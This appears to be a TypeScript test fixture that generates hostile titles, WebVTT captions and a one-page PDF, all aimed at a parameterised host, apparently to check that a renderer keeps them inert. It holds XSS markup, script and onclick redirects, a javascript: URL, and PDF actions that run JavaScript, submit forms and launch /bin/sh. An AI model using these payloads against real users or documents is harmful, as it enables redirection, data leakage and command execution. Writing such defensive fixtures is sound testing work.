/** A pack's words and files that would lead to `away`, were anything in them taken for more than words. */

const markup = (away: string): string =>
  `<img src="${away}/img" onerror="location='${away}/onerror'"><script src="${away}/script"></script><a href="${away}/a" target="_blank">a</a><iframe src="${away}/frame"></iframe>`

export const hostileTitle = (away: string): string => markup(away).slice(0, 150)

export const hostileCaptions = (away: string): string => `WEBVTT

STYLE
::cue { background-image: url(${away}/style); }

1
00:00.000 --> 10:00.000
<v ${away}/voice><c.red onclick="location='${away}/click'">${markup(away)}</c></v> &lt;script&gt;

2
00:00.000 --> 10:00.000 position:1% line:0 size:1000%
<b><i><u><lang x><ruby>javascript:location='${away}/js'<rt>x</ruby></lang></u></i></b>
`

/** One page with everything a document may do by itself or when it is touched. */
export const hostileSlides = (away: string): Buffer => {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /AcroForm << /Fields [7 0 R] >> /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 640 360] /Contents 4 0 R /Annots [6 0 R 7 0 R 8 0 R] /AA << /O 5 0 R >> /Resources << /Font << /F 9 0 R >> >> >>',
    stream('BT /F 40 Tf 40 160 Td (Slides) Tj ET'),
    `<< /S /JavaScript /JS (app.launchURL("${away}/pdf-script", true); this.submitForm("${away}/pdf-form");) >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 640 360] /A << /S /URI /URI (${away}/pdf-link) /Next << /S /Launch /F (/bin/sh) >> >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (t) /Rect [0 0 640 360] /AA << /E << /S /SubmitForm /F (${away}/pdf-submit) >> >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 640 360] /A << /S /GoToR /F (${away}/pdf-remote) /NewWindow true >> >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let text = '%PDF-1.7\n'
  const places = objects.map((body, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${body}\nendobj\n`
    return at
  })
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const whole = `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`
  return Buffer.from(whole, 'latin1')
}

const stream = (content: string): string => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`
